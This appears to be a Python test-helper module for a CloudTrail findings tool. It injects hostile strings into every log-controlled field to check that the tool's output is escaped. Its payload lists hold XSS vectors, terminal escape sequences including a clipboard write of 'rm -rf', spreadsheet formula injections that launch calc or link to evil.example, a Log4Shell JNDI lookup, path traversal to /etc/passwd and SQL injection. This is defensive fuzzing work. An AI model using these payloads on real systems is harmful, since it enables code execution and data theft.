"""A finding with everything in it, and the places of it that a log's writer fills."""

from collections.abc import Iterator
from typing import Any

import msgspec

from trailmend.blind_spots import BlindSpots, Gap, Seen, Silence, Untold
from trailmend.findings import (
    ActorPart,
    EventPart,
    Explained,
    Finding,
    MutedBy,
    NextEvent,
    SourcePart,
    TargetPart,
    Why,
    finding_id,
)
from trailmend.records import Reject

OURS = {"schema", "id", "level", "status", "event_time", "detection", "lapsed", "plan"} | {
    "fixes",
    "techniques",
    "superseded_by",
}
"""What no log writes: ids, levels, states, times, and the names of our detections and fixes."""


def finding(number: int = 0, **changes: Any) -> Finding:
    """Make a finding in which nothing is null; each number is another event, an hour later."""
    event_id = f"event-{number}"
    time = f"2026-03-{2 + number // 24 % 28:02}T{number % 24:02}:10:00Z"
    detection = "update_account_password_policy.weakened"
    whole = Finding(
        id=finding_id("111122223333", event_id, detection),
        detection=detection,
        title="Somebody weakened the password policy",
        level="high",
        event=EventPart(
            event_id=event_id,
            event_time=time,
            event_source="iam.amazonaws.com",
            event_name="UpdateAccountPasswordPolicy",
            account_id="111122223333",
            region="us-east-1",
            outcome="success",
            error_code="NoError",
        ),
        actor=ActorPart(
            type="IAMUser",
            name="eve",
            arn="arn:aws:iam::111122223333:user/eve",
            id="AIDAEVE",
            session_name="night",
            access_key_id="AKIAEVE",
            mfa="no",
            source_ip="198.51.100.7",
            user_agent="aws-cli/2.31.0",
        ),
        target=TargetPart("user", "alice", "access_key", "AKIAALICE"),
        relation="other",
        status="worsened",
        next=[
            NextEvent("event-later", "CreateUser", "2026-04-20T00:00:00Z", "It was used.", "eve")
        ],
        why=Why("weakens", {"weakens": True, "request": '{"minimumPasswordLength":6}'}),
        explanations=[Explained("accident", "A slip.", ["At night."], ["With MFA."])],
        fixes=["password_policy.restore_password_policy"],
        techniques=["T1556", "T1098.001"],
        before={"minimumPasswordLength": 14, "hardExpiry": False, "note": "kept"},
        after={"minimumPasswordLength": 6, "policy_document": '{"Statement": []}'},
        source=SourcePart("trail.json", number, "file"),
    )
    return msgspec.structs.replace(whole, **changes)


def hostile(text: str, number: int = 0) -> Finding:
    """Make a finding with a text in every place that a log's writer or a mute's fills."""
    whole = finding(number, muted_by=[MutedBy("M-1", text, text, text)])
    return msgspec.convert(_filled(msgspec.to_builtins(whole), text), Finding)


def blind_to(text: str) -> BlindSpots:
    """Make blind spots with a text in every place that a log's writer fills."""
    seen = Seen(text, (text,), "2026-03-02 09:00", "2026-03-02 19:00", 2, 9, (Gap("", "", 9),))
    told = Untold(9, 9, 9, (text,), (Silence(text, text, text),))
    unread = (Reject(text, 1, 1, text),)
    return BlindSpots(scans=1, unread=unread, seen=(seen,), untold={text: told})


def with_texts(one: Finding) -> list[str]:
    """Give every text of those places."""
    return list(_texts(msgspec.to_builtins(one)))


def _filled(value: Any, text: str) -> Any:
    if isinstance(value, dict):
        return {name: part if name in OURS else _filled(part, text) for name, part in value.items()}
    if isinstance(value, list):
        return [_filled(part, text) for part in value]
    return text if isinstance(value, str) else value


def _texts(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for name, part in value.items():
            if name not in OURS:
                yield from _texts(part)
    elif isinstance(value, list):
        for part in value:
            yield from _texts(part)
    elif isinstance(value, str):
        yield value


def _payloads() -> Iterator[str]:
    """Make hostile texts, of every kind that a medium could obey."""
    for number in (*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x61C, *range(0x200B, 0x2010)):
        yield f"a{chr(number)}b"
    for number in (*range(0x2028, 0x202F), *range(0x2066, 0x206A), 0xFEFF, 0xFFFE, 0xFFFF, 0xE0041):
        yield f"a{chr(number)}b"
    yield from TERMINAL
    yield from MARKUP
    yield from FORMULAS
    yield from MARKDOWN
    yield from OTHERS


TERMINAL = [
    "\x1b[31mred",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x9b2J",
    "\rover",
    "\x1b[2K\x1b[1A",
]
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=q>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1)",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{{ config }}",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script>",
    "<plaintext>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u2028<script>",
    "＜script＞",  # noqa: RUF001
]
FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '";=1+1',
    '",=1+1,"',
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    '"=1+1',
    "'=1+1",
    "%0A=1+1",
    'a"b',
    "a,b",
    "a\nb",
    "\u00a0=1+1",
    "|=1+1",
    "\x00=1+1",
]
MARKDOWN = [
    "[x](http://evil.example)",
    "![x](http://evil.example/x.png)",
    "<http://evil.example>",
    "http://evil.example",
    "https://evil.example/?a=b",
    "www.evil.example",
    "mallory@evil.example",
    "@everyone",
    "<!channel>",
    "<@U123>",
    "#123",
    "[x][y]",
    "[x]: http://evil.example",
    "# heading",
    "a\n# heading",
    "> quote",
    "- item",
    "1. item",
    "***",
    "---",
    "```",
    "a\n```\n<script>",
    "`",
    "``",
    "` ``",
    "a`b``c```d",
    "\\",
    "a\\",
    "\\`",
    "|",
    "a|b",
    "a\\|b",
    "a`|`b",
    "| a | b |",
    "**bold**",
    "_it_",
    "~~gone~~",
    "$x$",
    "$`x`$",
    ":smile:",
    "<b>bold</b>",
    "&copy;",
    "* * *",
    "a  ",
    "    code",
    "[^1]",
    "[ ] task",
    "xmpp:a@b.c",
    "mailto:a@b.c",
    "ftp://evil.example",
    "[a](javascript:alert(1))",
    "](http://evil.example)",
    "![",
    "<a name=x>",
]
OTHERS = [
    "",
    " ",
    "\u00a0",
    "x" * 5000,
    "<" * 3000,
    "`" * 3000,
    "é漢字🙂",
    "a\u0301" * 50,
    '{"a":1}',
    "null",
    "../../etc/passwd",
    "%s%n{0}{name}",
    "${jndi:ldap://evil.example/a}",
    "[bold]markup[/bold]",
    "F-0000000000",
    "'; DROP TABLE findings; --",
    "-----BEGIN",
    "﷽" * 100,
]
PAYLOADS = list(dict.fromkeys(_payloads()))
